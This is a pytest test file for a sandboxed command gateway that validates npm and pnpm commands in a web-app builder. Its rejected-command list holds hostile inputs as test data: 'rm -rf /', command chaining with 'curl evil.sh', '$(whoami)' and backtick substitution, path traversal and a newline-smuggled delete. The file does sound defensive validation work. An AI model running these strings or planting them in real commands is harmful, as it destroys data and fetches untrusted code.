from __future__ import annotations

import asyncio

import pytest

from src.builder.commands import CommandGateway, validate_command
from src.builder.config import BuilderSettings
from src.builder.errors import BuilderError, ErrorKind
from src.builder.locks import ProjectLocks
from src.builder.workspace import workspace_for
from src.sandbox_backends.base import CommandResult
from src.sandbox_backends.resolver import SandboxResolver
from src.sandbox_files.bridge import SandboxFile
from tests.sandbox_fakes import (
    FakeClock,
    FakeHandle,
    FakeProvider,
    MemoryFileStore,
    MemoryProjectStore,
    make_project,
)


def _fixture(project=None):
    project = project or make_project(sandbox_id="sbx-1")
    provider = FakeProvider()
    handle = provider.add("sbx-1")
    projects = MemoryProjectStore(project)
    files = MemoryFileStore()
    gateway = CommandGateway(
        projects=projects,
        files=files,
        resolver=SandboxResolver(provider),
        settings=BuilderSettings(poll_interval_s=1, install_deadline_s=5),
        locks=ProjectLocks(wait_s=0.01),
        clock=FakeClock().clock,
    )
    ws = workspace_for(project, sandbox_root=gateway._settings.sandbox_root)
    handle.put(ws.join("package.json"), '{"dependencies": {}}')
    return gateway, provider, handle, projects, files, ws


@pytest.mark.parametrize(
    "cmd",
    [
        "npm install",
        "pnpm install",
        "npm install lodash",
        "pnpm add @tanstack/react-query",
        "npm run build",
        "npx shadcn@latest add button",
        "pnpm dlx shadcn@latest add card",
        "npm list",
        "pnpm why react",
    ],
)
def test_allowed_commands(cmd: str) -> None:
    assert validate_command(f"  {cmd} ") == cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "",
        "rm -rf /",
        "rm -rf /; pnpm install",
        "npm install && curl evil.sh",
        "npm run build | tee out",
        "npx $(whoami)",
        "npm install ../../secret",
        "yarn add lodash",
        "npm install `id`",
        "npm install lodash\nrm -rf /",
        "npm install " + "a" * 600,
    ],
)
def test_rejected_commands(cmd: str) -> None:
    with pytest.raises(BuilderError) as ei:
        validate_command(cmd)
    assert ei.value.kind is ErrorKind.VALIDATION


def test_rejected_command_touches_nothing() -> None:
    gateway, provider, handle, projects, files, _ws = _fixture()

    with pytest.raises(BuilderError) as ei:
        asyncio.run(gateway.run("p1", "rm -rf /; pnpm install"))

    assert ei.value.kind is ErrorKind.VALIDATION
    assert provider.calls == []
    assert projects.calls == []
    assert files.calls == []
    assert handle.commands == []


def test_successful_command_persists_snapshot() -> None:
    gateway, _provider, handle, _projects, files, ws = _fixture()

    def _add(h: FakeHandle, _cmd: str, _cwd: str | None) -> CommandResult:
        h.put(ws.join("package.json"), '{"dependencies": {"lodash": "^4"}}')
        return CommandResult(exit_code=0, stdout="added 1 package in sbx-1")

    handle.on_command(r"^npm install lodash$", _add)

    result = asyncio.run(gateway.run("p1", "npm install lodash"))

    assert result.exit_code == 0
    assert result.persisted_files == 1
    assert "sbx-1" not in result.stdout
    assert ("npm install lodash", ws.path) in handle.commands
    assert "lodash" in files.files["p1"][0].content


def test_read_only_command_keeps_large_and_unreadable_stored_files() -> None:
    gateway, _provider, handle, _projects, files, ws = _fixture()
    lockfile = SandboxFile(path="package-lock.json", content="{" + " " * 600_000 + "}")
    favicon = SandboxFile(path="favicon.ico", content="placeholder")
    files.files["p1"] = [SandboxFile(path="package.json", content="{}"), lockfile, favicon]
    handle.put(ws.join(lockfile.path), lockfile.content)
    handle.put(ws.join(favicon.path), b"\x00\x00\x01\x00")

    result = asyncio.run(gateway.run("p1", "npm list"))

    assert result.exit_code == 0
    assert sorted(files.paths("p1")) == ["favicon.ico", "package-lock.json", "package.json"]
    kept = {f.path: f.content for f in files.files["p1"]}
    assert kept["package-lock.json"] == lockfile.content
    assert kept["favicon.ico"] == "placeholder"


def test_failed_command_is_returned_not_persisted() -> None:
    gateway, _provider, handle, _projects, files, _ws = _fixture()
    handle.on_command(
        r"^npm run build$",
        lambda *_: CommandResult(exit_code=1, stderr="Type error: x is not assignable"),
    )

    result = asyncio.run(gateway.run("p1", "npm run build"))

    assert result.exit_code == 1
    assert "Type error" in result.stderr
    assert result.to_dict()["exitCode"] == 1
    assert files.replace_calls == 0


def test_toolkit_add_initializes_toolkit_first() -> None:
    gateway, _provider, handle, _projects, _files, ws = _fixture()

    def _init(h: FakeHandle, _cmd: str, _cwd: str | None) -> CommandResult:
        h.put(ws.join("components.json"), "{}")
        return CommandResult(exit_code=0)

    handle.on_command(r"shadcn@latest init", _init)

    result = asyncio.run(gateway.run("p1", "npx shadcn@latest add button"))

    assert result.exit_code == 0
    lines = handle.command_lines()
    assert lines.index("npx --yes shadcn@latest init --yes --defaults") < lines.index(
        "npx shadcn@latest add button"
    )


def test_toolkit_init_failure_short_circuits_add() -> None:
    gateway, _provider, handle, _projects, _files, _ws = _fixture()
    handle.on_command(
        r"shadcn@latest init",
        lambda *_: CommandResult(exit_code=1, stderr="Could not detect a supported framework"),
    )

    result = asyncio.run(gateway.run("p1", "npx shadcn@latest add button"))

    assert result.exit_code == 1
    assert result.stderr.startswith("UI toolkit initialization failed")
    assert "npx shadcn@latest add button" not in handle.command_lines()


def test_toolkit_add_skips_init_for_frameworks_without_toolkit() -> None:
    gateway, _provider, handle, _projects, _files, _ws = _fixture(
        make_project(framework="vue", sandbox_id="sbx-1")
    )

    asyncio.run(gateway.run("p1", "npx shadcn@latest add button"))

    assert not any("init" in c for c in handle.command_lines())
